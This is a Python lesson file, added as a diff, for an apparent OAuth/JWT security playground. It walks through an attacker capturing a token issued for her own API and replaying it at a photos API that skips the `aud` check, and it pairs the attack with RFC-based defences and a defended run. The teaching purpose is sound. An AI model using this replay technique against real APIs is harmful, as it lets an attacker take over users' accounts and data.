@@ -1,0 +1,167 @@
+"""A token meant for another API, replayed at the photos API (audience check)."""
+
+from playground import Lesson, jwt_forge
+
+ALICE = "u-1001"
+QUOTES_API = "https://quotes.attacker.playground.test"
+AUDIENCE_CHECK = "InvalidAudienceError: Audience doesn't match"
+
+lesson = Lesson(
+    "Token for another API: audience not checked",
+    level="advanced",
+    kind="attack",
+    weakness="rs.skip_audience_check",
+    summary=(
+        "PhotoPrint Mobile shows print prices from QuickQuote, a third-party "
+        "API that Mallory runs. The authorization server issues Alice's app a "
+        "token for QuickQuote, and the app sends it there, as it should. "
+        "Mallory replays it at the photos API; an API that does not check "
+        "`aud` takes a token that was never meant for it."
+    ),
+    defence="""
+- **Check the audience.** RFC 9068 4: the resource server MUST check that
+  `aud` names it, and reject the token otherwise; RFC 8725 3.9 asks the same
+  of every JWT. PyJWT does it when given `audience=` and raises
+  `InvalidAudienceError`.
+- **Issue audience-restricted tokens.** RFC 9700 2.3 and 4.10.2: each access
+  token should be good at one resource server only, so an API that sees a
+  token (honest or not, RFC 9700 4.9) cannot spend it elsewhere. Clients
+  name the API they want with resource indicators (RFC 8707).
+- **One signing key, many APIs, is fine** only when every API checks `aud`:
+  the signature proves who *issued* the token, not whom it was *for*
+  (RFC 8725 2.8, cross-JWT confusion).
+- Refuse with `401 invalid_token` (RFC 6750 3.1), as the defended run shows.
+""",
+)
+
+
+@lesson.step("The authorization server issues Alice's app a token for QuickQuote")
+def token_for_quotes(run):
+    """
+    Alice signs in to **PhotoPrint Mobile**. Besides its token for the photos
+    API, the app needs one for **QuickQuote** (`quotes.attacker.playground
+    .test`), the third-party price API that Mallory runs.
+
+    Our authorization server only issues tokens for the photos API (it does
+    not support resource indicators, RFC 8707), so this step plays the
+    authorization server's part: it takes Alice's real token, sets
+    `aud` to QuickQuote, gives it a fresh `jti`, and signs it with **the
+    authorization server's own key**. That is the token a server with
+    several APIs would really issue: Mallory gets it legitimately, no
+    forgery involved.
+
+    The JWT panel shows both tokens: they differ only in `aud` and `jti`,
+    and both signatures are the authorization server's. The panel judges
+    tokens the way the photos API should, so it already flags the second
+    one: `InvalidAudienceError`, it is not for `https://api.playground.test`.
+    """
+    response = run.first_party_app.password("alice", "wonderland", "basic photos.read")
+    photos_token = response.json().get("access_token", "")
+    claims = run.decode(photos_token).claims
+    quotes_claims = {**claims, "aud": QUOTES_API, "jti": run.world.randomness.token(16)}
+    run.quotes_token = jwt_forge.sign(
+        quotes_claims, run.world.keys.authorization_server
+    )
+    shown = run.show_jwt(run.quotes_token, "Alice's token for QuickQuote (aud)")
+    run.check("the token endpoint answers 200", response.status_code == 200)
+    run.check(
+        "the QuickQuote token is Alice's (sub u-1001), with aud = QuickQuote",
+        shown.claims.get("sub") == ALICE and shown.claims.get("aud") == QUOTES_API,
+    )
+    run.check(
+        "its signature verifies with the authorization server's key (aud aside)",
+        shown.verification.status == "valid",
+    )
+
+
+@lesson.step("Alice's app calls QuickQuote, and Mallory keeps the token")
+def call_quotes(run):
+    """
+    The app asks QuickQuote for a price with `Authorization: Bearer` and the
+    QuickQuote token, exactly as RFC 6750 2.1 says. Read the request: it goes
+    from the **client** to the **attacker's** host.
+
+    A resource server sees every token sent to it; that is how it works
+    (RFC 9700 4.9). Mallory's server simply logs the `Authorization` header.
+    """
+    response = run.first_party_app.http.get(
+        f"{QUOTES_API}/api/quote?prints=12",
+        headers={"Authorization": f"Bearer {run.quotes_token}"},
+    )
+    # Mallory's server log: the Authorization header of that request.
+    received = run.last_request.header("Authorization") or ""
+    run.stolen_token = received.removeprefix("Bearer ")
+    run.check("QuickQuote answers", response.status_code == 200)
+    run.check(
+        "Mallory's server now holds Alice's QuickQuote token",
+        run.stolen_token == run.quotes_token,
+    )
+
+
+@lesson.step("Mallory replays it at the photos API")
+def replay(run):
+    """
+    Mallory sends the QuickQuote token to the **photos API**. Read the
+    response.
+
+    **Weakness on** (`rs.skip_audience_check`): the signature is the
+    authorization server's, the issuer is right, the token has not expired;
+    the API never looks at `aud`. **200**, Alice's profile.
+
+    **Defended**: **401** `invalid_token`, `error_description`
+    `InvalidAudienceError: Audience doesn't match`. The API passed its own
+    URL, `https://api.playground.test`, to PyJWT as the expected audience;
+    the token says QuickQuote.
+    """
+    response = run.attacker.call_api("/api/user", run.stolen_token)
+    body = response.json()
+    if run.weakness_on:
+        run.check("the API answers 200", response.status_code == 200)
+        run.check(
+            "with ALICE's profile, from a token meant for QuickQuote",
+            body.get("id") == ALICE and body.get("name") == "Alice Liddell",
+        )
+    else:
+        run.check("the API answers 401", response.status_code == 401)
+        run.check("the error is invalid_token", body.get("error") == "invalid_token")
+        run.check(
+            f'error_description: "{AUDIENCE_CHECK}"',
+            body.get("error_description") == AUDIENCE_CHECK,
+        )
+        run.check(
+            "the WWW-Authenticate header carries invalid_token",
+            'error="invalid_token"' in response.headers.get("WWW-Authenticate", ""),
+        )
+
+
+@lesson.step("And Alice's photos")
+def photos(run):
+    """
+    Mallory asks for `/api/photos` with the same token.
+
+    **Weakness on**: Alice's photos, and the server event
+    `access_token.accepted` for user `u-1001`. Every API that shares this
+    issuer and skips the audience check is open to every other API that
+    ever receives one of its users' tokens.
+
+    **Defended**: 401 again, and `access_token.rejected` with the reason.
+    """
+    response = run.attacker.call_api("/api/photos", run.stolen_token)
+    if run.weakness_on:
+        titles = [photo["title"] for photo in response.json().get("photos", [])]
+        accepted = run.world.events.named("access_token.accepted")
+        run.check("the API answers 200", response.status_code == 200)
+        run.check(
+            "with Alice's photos", titles == ["Tea party", "Croquet lawn"], str(titles)
+        )
+        run.check(
+            "the API logged the request as Alice's (access_token.accepted, u-1001)",
+            accepted and accepted[-1].user == ALICE,
+        )
+    else:
+        rejected = run.world.events.named("access_token.rejected")
+        run.check("the API answers 401", response.status_code == 401)
+        run.check(
+            "the API logged access_token.rejected with the reason",
+            rejected and rejected[-1].detail == AUDIENCE_CHECK,
+        )
